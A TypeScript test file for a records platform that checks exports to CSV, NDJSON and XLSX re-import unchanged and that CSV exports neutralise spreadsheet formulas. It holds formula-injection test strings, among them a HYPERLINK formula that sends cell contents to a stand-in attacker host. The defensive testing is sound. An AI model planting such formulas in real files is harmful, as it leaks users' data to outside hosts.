/** Records out as files: three formats, typed cells, nothing that runs, and an import of it that changes nothing. */
import type { Client, FileFormat } from '@trellis/api';
import type { Component } from '@trellis/metadata';
import { type CompiledField, compile, FIELD_TYPES } from '@trellis/model';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { importFile } from './import-file.ts';
import { startTestServer, type TestServer } from './start-test-server.ts';

const OPTIONS = ['red', 'semi;colon', 'back\\slash'].map((value) => ({ value, label: `The ${value}` }));
const field = (name: string, body: object) => ({
  kind: 'field' as const,
  name: `thing.${name}`,
  body: { label: name, ...body },
});
const object = (name: string, body: object = {}) => ({
  kind: 'object' as const,
  name,
  body: { label: name, plural_label: `${name}s`, name_field: 'name', ...body },
});
const TYPES: Readonly<Record<string, object>> = {
  text: {},
  long_text: {},
  rich_text: {},
  markdown: {},
  code: { language: 'json' },
  email: {},
  url: {},
  phone: {},
  color: {},
  select: { options: OPTIONS },
  multi_select: { options: OPTIONS },
  integer: {},
  decimal: {},
  currency: {},
  percent: {},
  rating: { max: 5 },
  duration: { min: -36_000 },
  boolean: {},
  date: {},
  datetime: {},
  time: {},
  date_range: {},
  tags: {},
  person_name: {},
  address: {},
  geolocation: {},
  json: {},
  secret: {},
  status: { options: OPTIONS },
};
const COMPONENTS = [
  object('thing'),
  field('name', { type: 'text' }),
  object('place'),
  { kind: 'field', name: 'place.name', body: { label: 'name', type: 'text' } },
  object('link', { sharing: 'read_write' }),
  { kind: 'field', name: 'link.name', body: { label: 'name', type: 'text' } },
  { kind: 'field', name: 'link.thing', body: { label: 'thing', type: 'lookup', to: 'thing' } },
  { kind: 'field', name: 'link.place', body: { label: 'place', type: 'lookup', to: 'place' } },
  ...Object.entries(TYPES).map(([type, body]) => field(`f_${type}`, { type, ...body })),
  field('f_emails', { type: 'email', multiple: true }),
  field('f_phones', { type: 'phone', multiple: true }),
  field('f_sealed', { type: 'long_text', encrypted: true }),
  field('f_user', { type: 'user' }),
  field('f_lookup', { type: 'lookup', to: 'place' }),
  field('f_any', { type: 'lookup', to: ['place', 'thing'] }),
  field('f_places', { type: 'multi_lookup', to: 'place', through: 'link' }),
] as Component[];
const FORMATS: readonly FileFormat[] = ['csv', 'ndjson', 'xlsx'];

let server: TestServer;
let client: Client;
let places: readonly string[];
let me: string;
let sampled: readonly CompiledField[];

beforeAll(async () => {
  server = await startTestServer({ components: COMPONENTS, runsJobs: true });
  client = server.client;
  me = (await client.me()).user.id;
  const made = await client.batch('place', {
    operation: 'create',
    records: [{ name: 'Here' }, { name: '=There' }],
  });
  places = made.results.map(({ id }) => id!);
  const system = ['user', 'team'].flatMap((name) => [
    object(name),
    { kind: 'field', name: `${name}.name`, body: { label: 'name', type: 'text' } },
  ]) as Component[];
  const { model, problems } = compile([...COMPONENTS, ...system].map((component) => ({ component })));
  expect(problems.filter(({ severity }) => severity === 'error')).toEqual([]);
  sampled = [...model!.objects.get('thing')!.fields.values()].filter(({ name }) => name.slice(2) in TYPES);
});
afterAll(() => server.stop());

/** Texts that files are bad at. */
const nasty = fc.oneof(
  fc.constantFrom(
    '=1+1',
    "'=1+1",
    "''-2",
    '+49 30 1',
    '-5',
    '@SUM(A1)',
    '"',
    ',;|',
    'a\r\nb',
    '_x0041_',
    '\u0001',
  ),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);

it('knows every type that can be imported', () => {
  const others = ['lookup', 'multi_lookup', 'user', 'file', 'files', 'image'];
  const writable = [...FIELD_TYPES.values()].filter((type) => !type.isReadOnly).map(({ name }) => name);
  expect(writable.filter((name) => !(name in TYPES) && !others.includes(name))).toEqual([]);
});

it('what was exported is imported again and changes nothing, in every format', {
  timeout: 60_000,
}, async () => {
  const numbers = fc.array(
    fc.integer({ min: 0, max: 999 }).map((each) => each / 1000),
    { minLength: 50, maxLength: 50 },
  );
  const texts = fc.array(
    nasty.filter((text) => !/[\0\p{Cs}]/u.test(text)),
    { minLength: 7, maxLength: 7 },
  );
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(numbers, texts), { minLength: 4, maxLength: 10 }), async (given) => {
      await clear('thing');
      const records = given.map(([random, [name, text, long, tag, other, key, sealed]]) => {
        let at = 0;
        const next = () => random[at++ % random.length]!;
        return {
          ...Object.fromEntries(
            sampled.flatMap((each) => (next() < 0.8 ? [[each.name, each.type.sample(next, each)]] : [])),
          ),
          name,
          f_text: text,
          f_long_text: long,
          f_sealed: sealed,
          f_tags: [tag, other].filter((each) => each!.trim() !== ''),
          f_json: { [`k${key}`]: [name, null, 1.5] },
          f_emails: [{ value: 'a@b.example', label: 'work' }, { value: 'c@d.example' }],
          f_phones: [{ value: '+4930123456' }],
          f_user: me,
          f_lookup: places[0],
          f_any: { object: 'place', id: places[1] },
          f_places: next() < 0.5 ? places : [places[1]],
        };
      });
      const made = await client.batch('thing', { operation: 'create', records });
      expect(made.results.flatMap(({ errors = [] }) => errors)).toEqual([]);
      const asked = [
        'id',
        ...sampled.map(({ name }) => name),
        'name',
        'f_lookup',
        'f_lookup.name',
        'f_any',
        'f_any.name',
        'f_places',
        'f_address.city',
      ];
      for (const format of FORMATS)
        for (const blank of ['keep', 'clear'] as const) {
          const fields = blank === 'clear' ? undefined : asked;
          const file = await exported('thing', format, fields && { fields });
          const job = await importFile(client, 'thing', {
            name: `things.${format}`,
            content: file,
            mapping: { operation: 'update', blank },
          });
          const about = { state: job.state, ...job.counts, errors: job.errors };
          const expected = {
            state: 'done',
            created: 0,
            updated: 0,
            unchanged: given.length,
            failed: 0,
            errors: [],
          };
          expect([format, about]).toEqual([format, expected]);
        }
    }),
    { numRuns: 2, endOnFailure: true },
  );
});

it('a CSV runs nothing in a spreadsheet, unless it is asked for as it is', async () => {
  await clear('thing');
  const evil = '=HYPERLINK("http://evil.example/?"&A1;"Click")';
  const { id } = await client.create('thing', {
    name: evil,
    f_text: "'-1",
    f_phone: '+4930123456',
    f_integer: -5,
  });
  const fields = ['name', 'f_text', 'f_phone', 'f_integer', 'f_duration'];
  const text = await (await exported('thing', 'csv', { fields })).text();
  expect(text.split('\r\n')[1]).toBe(`"'${evil.replaceAll('"', '""')}",''-1,'+4930123456,-5,`);
  const raw = await (await exported('thing', 'csv', { fields, raw: true })).text();
  expect(raw.split('\r\n')[1]).toBe(`"${evil.replaceAll('"', '""')}",'-1,+4930123456,-5,`);
  await importFile(client, 'thing', {
    content: new Blob([`id,name\n${id},'=1\n`]),
    mapping: { operation: 'update', raw: true },
  });
  expect((await client.get('thing', id)).name).toBe("'=1");
  // Rows that were refused come back guarded too, whatever the file had, and mean the same.
  const file = new Blob(["name,f_integer\n=1+1,x\n'=1+1,x\n"]);
  const job = await importFile(client, 'thing', { content: file });
  const refused = await (await client.download(client.refusedAddress(job.id))).text();
  const cells = refused
    .trimEnd()
    .split('\r\n')
    .slice(1)
    .map((line) => line.split(',').slice(-2));
  expect(cells).toEqual([
    ["'=1+1", 'x'],
    ["'=1+1", 'x'],
  ]);
});

it('has the records of a list: its filter, search and order', async () => {
  await clear('thing');
  const names = ['Ant', 'Bee', 'Bear', 'Cat'];
  await client.batch('thing', { operation: 'create', records: names.map((name) => ({ name })) });
  const file = await exported('thing', 'csv', { fields: ['name'], search: 'be', sort: ['-name'] });
  expect(await file.text()).toBe('name\r\nBee\r\nBear\r\n');
});

async function exported(name: string, format: FileFormat, query = {}): Promise<Blob> {
  return (await client.download(client.exportAddress(name, format, query))).blob();
}

async function clear(name: string): Promise<void> {
  const { records } = await client.list(name, { fields: 'id', limit: 200 });
  if (records.length > 0) await client.batch(name, { operation: 'delete', records });
}
